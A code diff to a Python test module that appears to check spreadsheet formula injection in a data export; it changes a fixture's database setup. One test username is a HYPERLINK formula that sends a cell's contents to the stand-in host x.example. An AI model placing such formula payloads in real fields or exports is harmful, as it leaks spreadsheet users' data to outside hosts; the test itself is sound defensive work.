@@ -21,7 +21,6 @@ from db.session import make_engine, make_session_factory, transaction
 from db.users import create_user
 from indicators.exports import FORMULA_STARTS
 from tests.helpers import ORIGIN, sign_in
-from workflows.first_run import ensure_ready
 
 LINK = '=HYPERLINK("http://x.example/?"&B2,"点击查看")'
 PASSWORD = "公式-注入-测试-口令-2026"
@@ -29,10 +28,9 @@ ADMIN = ("exp_admin", "导出-管理员-口令-2026")
 
 
 @pytest.fixture(scope="module")
-def factory(module_db_url: str) -> Iterator[object]:
-    engine = make_engine(module_db_url)
+def factory(module_ready_url: str) -> Iterator[object]:
+    engine = make_engine(module_ready_url)
     factory = make_session_factory(engine)
-    ensure_ready(engine, factory, sample=False, published=False)
     with transaction(factory) as session:
         create_user(session, LINK, PASSWORD, "viewer", "公式用户")
         create_user(session, ADMIN[0], ADMIN[1], "admin", "管理员")
